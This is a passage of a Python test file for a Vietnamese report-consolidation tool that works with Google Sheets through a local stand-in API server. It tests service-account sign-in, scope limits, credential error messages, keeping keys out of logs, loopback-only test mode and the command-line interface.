    assert "values" not in http.values_get(key, "Sheet1!H10:H12")                      # empty: no values key
    # no token: 401; a read-only token cannot write: 403 scope
    r = requests.get(f"{standin.base_url}/v4/spreadsheets/{key}")
    assert r.status_code == 401 and r.json()["error"]["status"] == "UNAUTHENTICATED"
    reader = connect_as(standin, "doc@doan.example.vn",
                        scopes=("https://www.googleapis.com/auth/spreadsheets.readonly",))
    standin.share(key, "doc@doan.example.vn")
    assert reader.http.values_get(key, "Sheet1!A1")["values"] == [["1644"]]
    with pytest.raises(APIError) as e:
        reader.http.values_update(key, "Sheet1!A1", params={"valueInputOption": "RAW"}, body={"values": [[1]]})
    assert e.value.response.status_code == 403 and "insufficient authentication scopes" in e.value.error["message"]
    assert "scope" in str(explain(e.value, key))


# ------------------------------------------------------------------ auth

_RSA: dict = {}


def _rsa():
    """One RSA key for the whole run (generating one takes a moment)."""
    if "key" not in _RSA:
        from cryptography.hazmat.primitives import serialization
        from cryptography.hazmat.primitives.asymmetric import rsa

        k = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        _RSA["key"] = k
        _RSA["pem"] = k.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                      serialization.NoEncryption()).decode()
    return _RSA["key"], _RSA["pem"]


@pytest.fixture
def rsa_key():
    return _rsa()


def _sa_info(pem: str, email: str = ROBOT) -> dict:
    # token_uri is Google's own: batn's adapter must send it to the stand-in, never to Google
    return {"type": "service_account", "project_id": "du-an-doan", "private_key_id": "0123abcd",
            "private_key": pem, "client_email": email, "client_id": "1234567890",
            "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token",
            "universe_domain": "googleapis.com"}


def _sa_file(tmp_path, standin: SheetsStandIn, email: str = ROBOT):
    """A service-account key registered with the stand-in, written to a file."""
    key, pem = _rsa()
    standin.register_service_account(email, key.public_key())
    path = tmp_path / "khoa.json"
    path.write_text(json.dumps(_sa_info(pem, email)), encoding="utf-8")
    return path


def test_service_account_signs_in_with_narrowest_scopes(standin, tmp_path, tree, cat, period, monkeypatch):
    path = _sa_file(tmp_path, standin)
    monkeypatch.setenv("BATN_GOOGLE_CREDENTIALS", str(path))
    monkeypatch.setenv("BATN_SHEETS_API_BASE", standin.base_url)
    conn = connect()                                         # both from the environment
    assert conn.account == ROBOT and conn.kind == "service_account"
    key = standin.new_spreadsheet("Có sẵn", "chu@doan.example.vn")
    standin.share(key, ROBOT)
    res = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T", spreadsheet=key)
    assert res.units == ["CD_A", "CD_B", "DK_C"] and res.shared == []        # a server shares nobody's sheet
    token_scopes = {scopes for email, scopes in standin.tokens.values() if email == ROBOT}
    assert token_scopes == {frozenset({SCOPE_SHEETS})}             # spreadsheets only, no Drive
    assert [e for e in standin.log if e.kind == "token"][0].status == 200
    # a service account has no Drive storage: creating fails, and says what to do instead
    conn2 = connect(path, creating=True, api_base=standin.base_url)
    with pytest.raises(Exception) as e:
        setup_spreadsheet(conn2, tree=tree, catalogue=cat, period=period, unit="T")
    assert "không có dung lượng Google Drive" in str(e.value) and "dang-nhap" in str(e.value)


def test_missing_or_broken_credentials_say_so_in_vietnamese(tmp_path, rsa_key):
    with pytest.raises(AuthError, match="BATN_GOOGLE_CREDENTIALS"):
        load_service_account_info(None)
    with pytest.raises(AuthError, match="Không tìm thấy tệp khóa"):
        load_service_account_info(tmp_path / "khong-co.json")
    (tmp_path / "hong.json").write_text("{ day khong phai json", encoding="utf-8")
    with pytest.raises(AuthError, match="không phải JSON hợp lệ"):
        load_service_account_info(tmp_path / "hong.json")
    (tmp_path / "oauth.json").write_text(json.dumps({"installed": {"client_id": "x"}}), encoding="utf-8")
    with pytest.raises(AuthError, match="không phải khóa tài khoản dịch vụ"):
        load_service_account_info(tmp_path / "oauth.json")
    broken = _sa_info(rsa_key[1].replace("A", "B", 40))
    (tmp_path / "sai.json").write_text(json.dumps(broken), encoding="utf-8")
    with pytest.raises(AuthError) as e:
        connect(tmp_path / "sai.json", api_base="http://127.0.0.1:9")
    assert "private_key" in str(e.value) and "BEGIN" not in str(e.value) and rsa_key[1][40:80] not in str(e.value)
    assert load_service_account_info(json.dumps(_sa_info(rsa_key[1])))["client_email"] == ROBOT   # JSON in env


def test_refused_key_and_unshared_spreadsheet(standin, tmp_path, tree, cat, period, capsys):
    path = _sa_file(tmp_path, standin)
    key = standin.new_spreadsheet("Chưa chia sẻ", "chu@doan.example.vn")
    conn = connect(path, api_base=standin.base_url)
    with pytest.raises(Exception) as e:
        consolidate_spreadsheets(conn, [key], tree, cat, period)
    msg = str(e.value)
    assert f"{ROBOT} chưa được chia sẻ bảng tính {key}" in msg and "Người chỉnh sửa" in msg
    standin.revoke_service_account(ROBOT)
    conn = connect(path, api_base=standin.base_url)
    with pytest.raises(AuthError, match="Google từ chối khóa"):
        consolidate_spreadsheets(conn, [key], tree, cat, period)
    secret = json.loads(path.read_text())["private_key"]
    assert secret[30:90] not in capsys.readouterr().err
    with pytest.raises(Exception, match="Không tìm thấy bảng tính"):
        consolidate_spreadsheets(connect_as(standin, "khac@du-an.iam.gserviceaccount.com", scopes=(SCOPE_SHEETS,)),
                                 ["khong-co-bang-tinh-nay"], tree, cat, period)
    # a person signed in with drive.file is told why a sheet batn did not create cannot be opened
    with pytest.raises(Exception, match="Không mở được bảng tính khong-co-bang-tinh-nay.*drive.file"):
        consolidate_spreadsheets(connect_as(standin), ["khong-co-bang-tinh-nay"], tree, cat, period)


def test_test_mode_reaches_only_loopback():
    with pytest.raises(AuthError):
        check_api_base("https://sheets.googleapis.com")
    with pytest.raises(AuthError):
        check_api_base("http://10.0.0.5:8080")
    s = requests.Session()
    s.mount("https://", LoopbackAdapter("http://127.0.0.1:9"))
    with pytest.raises(requests.ConnectionError, match="không gọi tới example.com"):
        s.get("https://example.com/")


# ------------------------------------------------------------------ command line

def test_cli_setup_and_consolidate(standin, tmp_path, cat):
    """The server's path: a spreadsheet made by a person and shared with the service account."""
    (tmp_path / "u.csv").write_text(UNITS, encoding="utf-8")
    creds = _sa_file(tmp_path, standin)
    common = ["--units", str(tmp_path / "u.csv"), "--catalog", "3tn-2024", "--period", "2024",
              "--credentials", str(creds), "--api-base", standin.base_url]
    key = standin.new_spreadsheet("Bảng tính của văn phòng", "vp@doan.example.vn")
    standin.share(key, ROBOT)
    runner = CliRunner()
    r = runner.invoke(gsheets_app, ["setup", "--unit", "T", "--layout", "tabs", "--spreadsheet", key, *common])
    assert r.exit_code == 0, r.output
    assert f"Đã cập nhật bảng tính: https://docs.google.com/spreadsheets/d/{key}/edit" in r.output
    fill_tab(standin, key, "CD_A", values_for(cat, 1), cat)
    out, rep = tmp_path / "tong_hop.xlsx", tmp_path / "bao_cao.docx"
    r = runner.invoke(gsheets_app, ["consolidate", f"https://docs.google.com/spreadsheets/d/{key}/edit#gid=0",
                                    *common, "--out", str(out), "--report", str(rep), "--number", "25",
                                    "--date", "2024-12-20"])
    assert r.exit_code == 0, r.output
    assert "Đã gửi báo cáo: 1/4 đơn vị" in r.output
    assert "Số lần gọi Google Sheets API: 5 (đọc 3, ghi 2)" in r.output
    assert out.exists() and rep.exists()
    r = runner.invoke(gsheets_app, ["consolidate", key, *common, "--json", "--no-write-back"])
    data = json.loads(r.output)
    assert data["requests"] == 2 and data["sent"] == 1
    assert data["totals"]["TT_CBCCVC_TRE"] == values_for(cat, 1)["TT_CBCCVC_TRE"]


def test_cli_without_credentials_exits_2(tmp_path):
    (tmp_path / "u.csv").write_text(UNITS, encoding="utf-8")
    r = CliRunner().invoke(gsheets_app, ["consolidate", "abc", "--units", str(tmp_path / "u.csv"),
                                         "--catalog", "3tn-2024", "--period", "2024"])
    assert r.exit_code == 2 and "Chưa đăng nhập Google" in r.output and "dang-nhap" in r.output
    assert "BATN_GOOGLE_CREDENTIALS" in r.output


# ------------------------------------------------------------------ live (opt-in)

def test_live_google(tmp_path):
    """Against real Google: runs only with BATN_LIVE_GOOGLE_CREDENTIALS (a service-account key) and
    BATN_LIVE_SPREADSHEET (a spreadsheet shared with it as Editor, which this test will modify)."""
    creds, sheet = os.environ.get("BATN_LIVE_GOOGLE_CREDENTIALS"), os.environ.get("BATN_LIVE_SPREADSHEET")
    if not creds or not sheet:
        pytest.skip(reason="kiểm thử với Google thật: đặt BATN_LIVE_GOOGLE_CREDENTIALS và BATN_LIVE_SPREADSHEET để chạy")
    if os.environ.get("BATN_SHEETS_API_BASE"):
        pytest.skip(reason="BATN_SHEETS_API_BASE is set: the live test must talk to Google itself")
    (tmp_path / "u.csv").write_text("code,name,parent\nLIVE_T,Đơn vị thử,\nLIVE_A,Chi đoàn thử,LIVE_T\n",
                                    encoding="utf-8")
    tree, cat, period = load_units(tmp_path / "u.csv"), load_catalogue("3tn-2024"), load_period("2024")
    conn = connect(creds)
    res = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="LIVE_T", spreadsheet=sheet,
                            editors={"LIVE_A": []})
    row = G.tab_layout(cat).placed["TT_CBCCVC_TRE"].row
    conn.http.values_update(res.key, f"'LIVE_A'!D{row}", params={"valueInputOption": "USER_ENTERED"},
                            body={"values": [["25"]]})
    before = conn.counter.total
    run = consolidate_spreadsheets(conn, [res.key], tree, cat, period)
    assert run.consolidation.totals["TT_CBCCVC_TRE"] == 25
    assert conn.counter.total - before <= 5


def _cons_for(read, tree, cat, period):
    from batn.rollup import consolidate

    return consolidate(read.submissions, tree, cat, period, root="T", as_of=AS_OF)


def test_severity_colours_are_the_actions_own():
    from batn.actions import COLOURS

    assert COLOURS[Severity.ERROR] == "F4B6B6"
